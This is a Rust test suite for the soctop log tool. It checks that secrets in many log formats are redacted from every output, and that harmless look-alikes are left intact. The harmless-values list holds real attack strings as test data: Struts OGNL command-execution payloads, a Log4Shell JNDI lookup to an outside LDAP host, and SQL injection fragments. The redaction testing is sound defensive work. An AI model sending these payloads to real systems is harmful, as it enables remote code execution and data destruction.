//! Secrets where people's logs have them, and what only looks like one: the first reach no file and no output, the second
//! stay as they are.

use std::path::Path;
use std::sync::Arc;

use soctop::event::{Event, GenerationId, Redacted, SourceId, Timestamp};
use soctop::normalize::{Redaction, Redactor};
use soctop::pipeline::{Engine, EngineOptions, Line};
use soctop::sigma::RuleSet;

use crate::harness::{TestEnv, append, files_below, start};

/// More of them, one a line: what clients, devices, frameworks and dumps of languages write.
const MORE_TEXTS: &str = include_str!("secrets/texts.txt");
const MORE_OBJECTS: &str = include_str!("secrets/objects.txt");
const MORE_TOKENS: &str = include_str!("secrets/tokens.txt");
/// And what says nothing, in the same words.
const MORE_HARMLESS: &str = include_str!("secrets/harmless.txt");

/// Texts in which a secret stands for `§`.
const TEXTS: &[&str] = &[
    "login password=§ failed",
    "> Cookie: sid=§; theme=dark",
    "Set-Cookie: sid=§; Path=/; HttpOnly",
    "> x-api-key: §",
    "Authorization: Token §",
    "authorization: ApiKey §",
    "Authorization: Bearer §",
    "sent {\"password\":\"§\",\"user\":\"x\"}",
    "sent {'password': '§', 'user': 'x'}",
    "sent {\"name\": \"api_key\", \"value\": \"§\"}",
    "body a=b&password=§&c=d",
    "body user[password]=§",
    "form-data; name=\"password\"\r\n\r\n§\r\n--xyz",
    "curl -u bob:§ https://h.example/",
    "deploy --token § --verbose",
    "deploy --password=§",
    "mysql -u root -p§ shop",
    "env AWS_SECRET_ACCESS_KEY: §",
    "export DB_PASSWORD=§",
    "ALTER USER app PASSWORD '§'",
    "SET PASSWORD FOR 'mona'@'%' = PASSWORD('§')",
    "INSERT INTO users (name, password) VALUES ('mona', '§'), ('eve', 'x')",
    "<add key=\"ApiSecret\" value=\"§\" />",
    "DB_PASS=§ DB_HOST=db ./run.sh",
    "vault write auth/approle/login role_id=x secret_id=§",
    "GET /b?X-Amz-Credential=§%2F20260303%2Feu%2Fs3%2Faws4_request&x=1",
    "CREATE USER 'x' IDENTIFIED BY '§'",
    "connect to postgres://app:§@db.example/shop",
    "<login><password>§</password></login>",
    "GET /s?q=%7B%22password%22%3A%22§%22%7D",
    "GET /reset?token=§&x=1",
    "params :password=>\"§\"",
    "Server=db;User Id=sa;Password=§;Encrypt=true",
    "AccountName=x;AccountKey=§",
    "post to https://hooks.slack.com/services/T00/B00/§",
    "post to https://discord.com/api/webhooks/123/§",
    "config{apiKey:§ retries:3}",
    "client_secret: §",
    "docker login -u bob -p § registry.example",
    "PGPASSWORD=§ psql -h db",
    "connecting to jdbc:mysql://db:3306/shop?user=app&password=§",
    "headers map[Authorization:[Bearer §] Cookie:[sid=1§]]",
    "sig=§abcdef&se=1",
    "redis-cli -h cache -a § ping",
    "AUTH §",
    r#"1795858200.123456 [0 127.0.0.1:60866] "AUTH" "§""#,
    r#"1795858200.123456 [0 127.0.0.1:60866] "auth" "default" "§""#,
    "AUTH default §",
    "redis 127.0.0.1:6379> AUTH §",
    "openssl enc -aes-256-cbc -k § -in x",
    "openssl rsa -in key.pem -passin pass:§ -out x",
    "openssl enc -d -k '§ with blanks' -in x",
    "keytool -list -storepass § -keystore x.jks",
    "ldapsearch -x -D cn=admin -w § -b dc=example",
    "mosquitto_pub -u bob -P § -t x",
    "zip -P § out.zip x",
    "smbclient //srv/share -U bob%§",
    "mysqldump -p'§ with blanks' shop",
    "mongosh -u root -p § admin",
    "rabbitmqctl add_user bob §",
    "net user bob § /add",
    "vault login §",
    "aws configure set aws_secret_access_key §",
    "wpa_passphrase home §",
    "sshpass -p § ssh host",
    "the password is §",
    "Password for user bob was set to '§'.",
    "password of root has been changed to §",
    "your reset token is §, valid for an hour",
    "the shared secret is now §",
    "AWS4-HMAC-SHA256 Credential=x/20260301/eu/s3/aws4_request, SignedHeaders=host, Signature=§0123456789abcdef",
    "GET /b/k?X-Amz-Expires=60&X-Amz-Signature=§0123456789abcdef",
    "https://storage.example/b/k?GoogleAccessId=x&Expires=1&Signature=§0123456789abcdefabcdef%3D",
];

/// Objects in which a secret stands for `§`.
const OBJECTS: &[&str] = &[
    r#"{"password":"§"}"#,
    r#"{"user":{"newPassword":"§"}}"#,
    r#"{"request_Cookie":"sid=§"}"#,
    r#"{"JSESSIONID":"§"}"#,
    r#"{"PHPSESSID":"§"}"#,
    r#"{"apiKey":"§"}"#,
    r#"{"env":{"AWS_SECRET_ACCESS_KEY":"§"}}"#,
    r#"{"spring.datasource.password":"§"}"#,
    r#"{"headers":{"Set-Cookie":["a=§; Path=/"]}}"#,
    r#"{"attributes":[{"key":"user.name","value":{"stringValue":"x"}},{"key":"password","value":{"stringValue":"§"}}]}"#,
    r#"{"attributes":[{"key":"token","value":{"arrayValue":{"values":[{"stringValue":"§"}]}}}]}"#,
    r#"{"headers":[{"name":"Authorization","value":"§"},{"name":"Accept","value":"*/*"}]}"#,
    r#"{"headers":[{"value":"§","name":"X-Api-Key"}]}"#,
    r#"{"args":["deploy","--token","§"]}"#,
    r#"{"kv":[{"Key":"DB_PASSWORD","Value":"§"}]}"#,
    r#"{"kv":[{"key":"password","type":"str","value":"§"}]}"#,
    r#"{"req":{"headers":{"cookie":"connect.sid=s%3A§"}}}"#,
    r#"{"fields":{"Token":{"value":"§"}}}"#,
    r#"{"token":"§","message":"it was § again","list":["§"]}"#,
    r#"{"rawHeaders":["Host","h.example","Authorization","Bearer §","Accept","*/*"]}"#,
    r#"{"rawHeaders":["Cookie","sid=§; theme=dark","X-Api-Key","§"]}"#,
    r#"{"request":{"raw_headers":["x-auth-token","§1aB"]}}"#,
    r#"{"cookies":["sid=§","theme=§"]}"#,
    r#"{"headers":{"set-cookie":["sid=§; Path=/","b=§"]}}"#,
    r#"{"cookies":[{"name":"sid","value":"§"}]}"#,
    r#"{"cmd":["redis-cli","-a","§"]}"#,
    r#"{"argv":["openssl","enc","-k","§","-in","x"]}"#,
    r#"{"argv":["mysql","-p§","shop"]}"#,
    r#"{"recovery_codes":["§a","§b"]}"#,
    r#"{"SecretString":"§"}"#,
    "GET /accounts/reset/MTk3/c4b-§0123456789abcdef/",
    "https://shop.example/invite/§0123456789ABCDEF?lang=de",
    "smtp: AUTH PLAIN §",
];

/// Tokens of known shape.
const SHAPES: &[&str] = &[
    "ghp_§abcdefghijABCDEFGHIJ01234567",
    "xoxb-123456789012-§",
    "sk_live_§abcdef",
    "glpat-§abcdefgh",
    "npm_§abcdefghijABCDEFGHIJ01234567",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.§",
    "hvs.§abcdefghijkl",
    "dckr_pat_§abcdefghijkl",
];

/// A text as logs of different kinds write it.
fn lines_of(text: &str) -> Vec<String> {
    let quoted = serde_json::to_string(text).expect("a text");
    let object = format!(r#"{{"level":"info","message":{quoted}}}"#);
    let flat = text.replace(['\r', '\n'], " ");
    let mut lines = vec![docker(&object), object, format!("level=info msg={quoted} x=1")];
    if flat == text {
        lines.push(format!("2026-03-01 10:10:37,180 - api - INFO - {flat}"));
        lines.push(format!("<34>Mar  1 06:55:46 web1 app[42]: {flat}"));
    }
    lines
}

fn docker(line: &str) -> String {
    let quoted = serde_json::to_string(&format!("{line}\n")).expect("a text");
    format!(r#"{{"log":{quoted},"stream":"stdout","time":"2026-03-01T10:00:00.1Z"}}"#)
}

/// Every combination, each with a secret of its own.
fn canaries() -> Vec<(String, String)> {
    let of_shapes =
        SHAPES.iter().copied().chain(MORE_TOKENS.lines()).map(|shape| format!("got {shape} here"));
    let texts = TEXTS.iter().copied().chain(MORE_TEXTS.lines()).map(str::to_owned).chain(of_shapes);
    let objects = OBJECTS.iter().copied().chain(MORE_OBJECTS.lines());
    let objects = objects.flat_map(|object| [object.to_owned(), docker(object)]);
    let templates = texts.flat_map(|text| lines_of(&text)).chain(objects);
    let numbered = templates.enumerate().map(|(number, template)| {
        let canary = format!("Zq9Canary{number:04}xKd7");
        (template.replace('§', &canary), canary)
    });
    numbered.collect()
}

/// What may be shown of each line, fields included.
fn shown_of_each(lines: &[&str]) -> Vec<String> {
    let mut engine = Engine::new(&RuleSet::default(), &EngineOptions::default());
    let mut redactor = Redactor::new(engine.paths(), Redaction::default());
    let path: Arc<str> = "app.log".into();
    let mut shown = |(line, number): (&&str, u64)| {
        let line = Line {
            bytes: line.as_bytes(),
            cut: false,
            source: SourceId(1),
            path: &path,
            generation: GenerationId(1),
            offset: number,
            number,
            lines: 1,
            read_at: Timestamp::from_seconds(1_772_400_000),
        };
        let mut event = Event::default();
        engine.line(&line, &mut event);
        Redacted::by(&mut redactor, event).buffer().to_owned()
    };
    lines.iter().zip(1..).map(&mut shown).collect()
}

fn shown(lines: &[&str]) -> String {
    shown_of_each(lines).join("\n")
}

#[test]
fn no_secret_is_shown_wherever_it_stands() {
    let canaries = canaries();
    assert!(canaries.len() >= 2_000, "{}", canaries.len());
    let lines: Vec<&str> = canaries.iter().map(|(line, _)| line.as_str()).collect();
    let left: Vec<String> = canaries
        .iter()
        .zip(shown_of_each(&lines))
        .filter(|((_, canary), shown)| shown.to_lowercase().contains(&canary.to_lowercase()))
        .map(|((line, _), shown)| format!("{line}\n    {}", shown.lines().next().unwrap_or_default()))
        .collect();
    assert!(left.is_empty(), "{} of {}:\n{}", left.len(), canaries.len(), left.join("\n"));
}

/// A rule that takes every secret it can into its group and its line.
const GREEDY: &str = "title: greedy\nid: 1c8cd3b8-800f-4794-a207-1763c6ad9e60\nlevel: high\nlogsource: {product: app}\n\
    detection: {sel: [Canary], condition: sel}\n\
    soctop: {schema: 1, show: '{message} {password} {token} {apiKey} {JSESSIONID} {request_Cookie}'}\n";

/// Objects belong to one request.
fn with_id(line: &str) -> String {
    line.replacen('{', r#"{"request_id":"req-canary-0000-1111","#, usize::from(line.starts_with('{')))
}

/// What plain watching says, alerts included, on a data folder of its own.
fn watched(env: &TestEnv, rules: &[&str]) -> Vec<u8> {
    let (said, talk) = (env.path("said.txt"), env.path("talk.txt"));
    let mut child = start(
        env.command(&[&["watch", "--plain", "--data-dir", "watched"], rules].concat())
            .stdout(std::fs::File::create(&said).expect("a file"))
            .stderr(std::fs::File::create(&talk).expect("a file")),
    );
    let read = |path: &Path| std::fs::read(path).unwrap_or_default();
    crate::harness::wait_for("an alert", || (!read(&said).is_empty()).then_some(()));
    let pid = rustix::process::Pid::from_child(&child);
    rustix::process::kill_process(pid, rustix::process::Signal::INT).expect("the signal is sent");
    child.wait().expect("watch ends");
    [read(&said), read(&talk)].concat()
}

/// Everything that is kept of the documents and in the dictionaries of an index, as it is after decompression.
fn stored(folder: &Path, found: &mut Vec<Vec<u8>>) {
    for entry in std::fs::read_dir(folder).expect("the folder can be read") {
        let path = entry.expect("an entry").path();
        if !path.is_dir() {
            continue;
        }
        if path.join("meta.json").exists() {
            texts_of_index(&path, found);
        }
        stored(&path, found);
    }
}

/// Adds what is compressed in any of the texts.
fn unpack(found: &mut Vec<Vec<u8>>) {
    const FRAME: &[u8] = &[0x28, 0xb5, 0x2f, 0xfd];
    let frames = found.iter().flat_map(|bytes| {
        memchr::memmem::find_iter(bytes, FRAME).filter_map(|at| {
            let mut text = Vec::new();
            let mut frame = zstd::stream::read::Decoder::new(bytes.get(at..)?).ok()?.single_frame();
            std::io::Read::read_to_end(&mut frame, &mut text).is_ok().then_some(text)
        })
    });
    let frames: Vec<_> = frames.collect();
    found.extend(frames);
}

fn texts_of_index(folder: &Path, found: &mut Vec<Vec<u8>>) {
    use tantivy::Document;
    let index = tantivy::Index::open_in_dir(folder).expect("an index");
    let schema = index.schema();
    let searcher = index.reader().expect("a reader").searcher();
    for segment in searcher.segment_readers() {
        let store = segment.get_store_reader(0).expect("documents");
        for document in store.iter::<tantivy::TantivyDocument>(None) {
            found.push(document.expect("a document").to_json(&schema).into_bytes());
        }
        for (field, entry) in schema.fields().filter(|(_, entry)| entry.is_indexed()) {
            let Ok(inverted) = segment.inverted_index(field) else { panic!("{}", entry.name()) };
            let mut terms = inverted.terms().stream().expect("terms");
            while terms.advance() {
                found.push(terms.key().to_vec());
            }
        }
    }
}

/// What is given to others of every incident: reports, cases and what is read of these.
fn passed_on(env: &TestEnv) -> Vec<Vec<u8>> {
    let data = ["--data-dir", "data"];
    let run = |args: &[&str]| {
        let output = env.run(args);
        assert_eq!(output.status.code(), Some(0), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
        [output.stdout, output.stderr].concat()
    };
    let known = env.run(&[&["report", ""], &data[..]].concat());
    let said = String::from_utf8([known.stdout, known.stderr].concat()).expect("text");
    let is_id = |word: &&str| word.len() == 32 && word.bytes().all(|byte| byte.is_ascii_hexdigit());
    let ids: std::collections::BTreeSet<&str> =
        said.split(|c: char| !c.is_ascii_alphanumeric()).filter(is_id).collect();
    assert!(!ids.is_empty(), "{said}");
    let mut outputs = Vec::new();
    for id in ids {
        for format in ["md", "html", "ocsf"] {
            outputs.push(run(&[&["report", id, "--format", format], &data[..]].concat()));
        }
        let file = format!("{id}.case");
        outputs
            .push(run(&[&["case", "export", id, &file, "--only-rules", "greedy.yml"], &data[..]].concat()));
        outputs.push(std::fs::read(env.path(&file)).expect("the case"));
        for format in ["md", "html", "ocsf"] {
            outputs.push(run(&["case", "open", &file, "--format", format]));
        }
        outputs.push(run(&["replay", &file, "--format", "ndjson"]));
    }
    outputs
}

#[test]
fn no_secret_reaches_a_file_or_an_output() {
    let env = TestEnv::new();
    std::fs::write(env.path("greedy.yml"), GREEDY).expect("the rule can be written");
    let lines: String = canaries().into_iter().map(|(line, _)| with_id(&line) + "\n").collect();
    append(&env.log("app.log"), &lines);
    let mut outputs = Vec::new();
    let rules = ["--only-rules", "greedy.yml", "--no-routing", "logs/app.log"];
    let count = canaries().len();
    let run = |args: &[&str]| {
        let output = env.run(args);
        assert_ne!(output.status.code(), Some(2), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
        [output.stdout, output.stderr].concat()
    };
    run(&[&["ingest", "--data-dir", "data"], &rules[..]].concat());
    for format in ["table", "ndjson", "raw"] {
        outputs.push(run(&["search", "*", "--limit", "20000", "--format", format, "--data-dir", "data"]));
    }
    for format in ["table", "ndjson"] {
        outputs.push(run(&[&["replay", "--format", format], &rules[..]].concat()));
        outputs.push(run(&["explain", "--format", format, "logs/app.log"]));
    }
    for format in ["table", "ndjson"] {
        let hunt = ["hunt", "greedy.yml", "--no-routing", "--format", format, "--data-dir", "data"];
        outputs.push(run(&hunt));
    }
    outputs.push(run(&["trace", "req-canary-0000-1111", "--format", "ndjson", "--data-dir", "data"]));
    outputs.push(run(&["trace", "req-canary-0000-1111", "--data-dir", "data"]));
    outputs.extend(passed_on(&env));
    outputs.push(watched(&env, &rules));
    assert!(outputs.iter().all(|output| !output.is_empty()), "nothing was shown");
    let found = String::from_utf8_lossy(outputs.get(1).map_or(&[], Vec::as_slice)).into_owned();
    let lines: std::collections::BTreeSet<u64> = found
        .lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok()?["line"].as_u64())
        .collect();
    assert_eq!(lines.len(), count, "every line is found");
    for folder in ["data", "watched"] {
        outputs.extend(files_below(&env.path(folder)));
        stored(&env.path(folder), &mut outputs);
    }
    unpack(&mut outputs);
    let has_canary =
        |bytes: &&Vec<u8>| bytes.to_ascii_lowercase().windows(9).any(|window| window == b"zq9canary");
    let leaks: Vec<_> =
        outputs.iter().filter(has_canary).map(|bytes| String::from_utf8_lossy(bytes)).collect();
    let shown: Vec<&str> =
        leaks.iter().flat_map(|text| text.lines().filter(|line| line.contains("Canary"))).collect();
    assert!(leaks.is_empty(), "{} leak: {:#?}", leaks.len(), shown.iter().take(5).collect::<Vec<_>>());
}

#[test]
fn a_secret_that_a_runtime_has_cut_is_shown_in_neither_piece() {
    let pieces = [
        r#"{"log":"{\"user\":\"alice\",\"password\":\"YWxpCanary1","stream":"stdout","time":"2026-03-01T10:00:00.1Z"}"#,
        r#"{"log":"Canary2xyz","stream":"stdout","time":"2026-03-01T10:00:00.1Z"}"#,
        r#"{"log":"Canary3\",\"note\":\"stays\"}\n","stream":"stdout","time":"2026-03-01T10:00:00.1Z"}"#,
        r#"{"log":"Next line\n","stream":"stdout","time":"2026-03-01T10:00:00.2Z"}"#,
    ];
    let text = shown(&pieces);
    assert!(!text.contains("Canary") && text.contains("stays") && text.contains("Next line"), "{text}");
}

/// Numbers that look like digests and ids, the same in every run.
fn hex(seed: u64, length: usize) -> String {
    let digest = blake3::hash(&seed.to_le_bytes()).to_hex();
    digest.chars().cycle().take(length).collect()
}

fn luhn_valid(body: u64) -> String {
    let digits = format!("4{body:014}");
    let sum: u32 = digits
        .bytes()
        .rev()
        .enumerate()
        .map(|(index, digit)| {
            let value = u32::from(digit - b'0') * if index % 2 == 0 { 2 } else { 1 };
            value / 10 + value % 10
        })
        .sum();
    format!("{digits}{}", (10 - sum % 10) % 10)
}

const HARMLESS: &[&str] = &[
    "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/",
    "/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream()))}",
    "(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.System@getProperty('user.dir'))",
    "${jndi:ldap://198.51.100.7:1389/a}",
    "git clone git@github.com:x/y.git",
    "npm install left-pad@1.3.0 @types/node@20.1.0",
    "GET /img/logo@2x.png",
    "Started getty@tty1.service",
    "token expired",
    "invalid token: expired",
    "Password changed for bob",
    "Failed password for root from 203.0.113.9 port 22 ssh2",
    "password authentication failed for user \"app\"",
    "Authorization: required",
    "Authorization failed for user bob",
    "cookie: not found",
    "Set-Cookie header is missing",
    "the secret: never give up",
    "Retrieved required secret: DATABASE_URL",
    "token_type=bearer",
    "grant_type=password",
    "max_tokens=4096",
    "tokens: 512",
    "session_id=abc-1234567",
    "auth_method=password",
    "key=value",
    "sort_key=name",
    "primary_key=id",
    "chown -u 1000:1000 /srv",
    "ssh -p 2222 host",
    "mkdir -p /srv/data",
    "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "/assets/main.3fa1c2d4.js",
    "arn:aws:iam::123456789012:role/deploy",
    "S-1-5-21-3623811015-3361044348-30300820-1013",
    "00:1b:44:11:3a:b7",
    "2026-03-01T10:00:00.123456Z",
    "fe80::1ff:fe23:4567:890a",
    "password_policy=strong",
    "password_hash_algorithm=argon2",
    "Basic understanding of things",
    "Bearer authentication failed",
    "user=alice action=login result=ok",
    "https://h.example:8443/a/b?page=2&sort=asc",
    "DROP TABLE users; --",
    "' OR 1=1 --",
    "name=\"email\"; filename=\"x.txt\"",
    "csrf check passed",
    "pass: 12 fail: 0",
    "the pin is wrong",
    "the password is incorrect",
    "the password is not strong enough",
    "password is 12 characters long",
    "token is 3600 seconds old",
    "token was expired",
    "Password for user bob was changed",
    "password for root from 203.0.113.9 is wrong",
    "the secret is missing",
    "password was reset by the administrator",
    "AUTH failed for user bob from 203.0.113.9",
    "AUTH required",
    "AUTH LOGIN",
    "tar -k x.tar",
    "grep -w word file",
    "ls -a /srv",
    "rsync -P x host:/srv",
    "make -k all",
    "net user bob",
    "openssl s_client -connect h.example:443",
    "openssl rsa -passin env:KEY_PASS",
    "Signature=invalid",
    "signature verified",
    r#"["password","email","username"]"#,
    r#"scopes "auth" and "profile""#,
    r#"["auth","profile"]"#,
    "AUTHENTICATION of user 1234 failed",
    r#"{"code":"28P01","key":"user:42","auth":"password","sig":"SIGTERM"}"#,
    r#"{"alert":{"signature":"ET SCAN Suspicious inbound to mySQL port 3306"}}"#,
    "password_encoder=bcrypt password_file=/etc/app/pw password_manager=keepass",
    "password_reset=requested",
    "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/ls",
    "pam_unix(passwd:chauthtok): password changed for alice",
    "AUTH PLAIN LOGIN CRAM-MD5",
    "250-AUTH LOGIN PLAIN",
    "GET /api/v2/verify/phone-number",
    "GET /reset/password-of-an-account",
    "POST /orders/20261128/confirm/8821",
];

/// Values that occur in every log.
fn harmless() -> Vec<String> {
    let mut values: Vec<String> = HARMLESS.iter().map(|text| (*text).to_owned()).collect();
    for n in 0..40 {
        let digest = hex(n, 32);
        let parts =
            [digest.get(..8), digest.get(8..12), digest.get(12..16), digest.get(16..20), digest.get(20..32)];
        values.push(parts.map(Option::unwrap_or_default).join("-"));
        values.push(format!("md5 {digest}"));
        values.push(format!("sha1 {}", hex(n, 40)));
        values.push(format!("00-{}-{}-01", hex(n, 32), hex(n, 16)));
        values.push(format!("order {} shipped", luhn_valid(53_957_862_148 + n * 7_919)));
        values.push(format!("client 203.0.113.{n} connected"));
        values.push((1_772_355_600_123 + n * 997).to_string());
    }
    values
}

#[test]
fn what_only_looks_like_a_secret_stays() {
    let values = harmless();
    let fields = ["message", "order_no", "correlation_id", "commit", "path"];
    let object = |(value, field): (String, &&str)| {
        format!(r#"{{"{field}":{}}}"#, serde_json::to_string(&value).expect("a text"))
    };
    let more = MORE_HARMLESS.lines().map(|line| match line.starts_with('{') {
        true => line.to_owned(),
        false => object((line.to_owned(), &"message")),
    });
    let lines: Vec<String> = values.into_iter().zip(fields.iter().cycle()).map(object).chain(more).collect();
    let count = lines.len();
    assert!(count >= 700, "{count}");
    let touched: Vec<String> = lines
        .iter()
        .zip(shown_of_each(&lines.iter().map(String::as_str).collect::<Vec<_>>()))
        .filter(|(_, shown)| shown.contains('‹'))
        .map(|(line, shown)| format!("{line}\n    {}", shown.lines().next().unwrap_or_default()))
        .collect();
    assert!(touched.is_empty(), "{} of {count}:\n{}", touched.len(), touched.join("\n"));
}
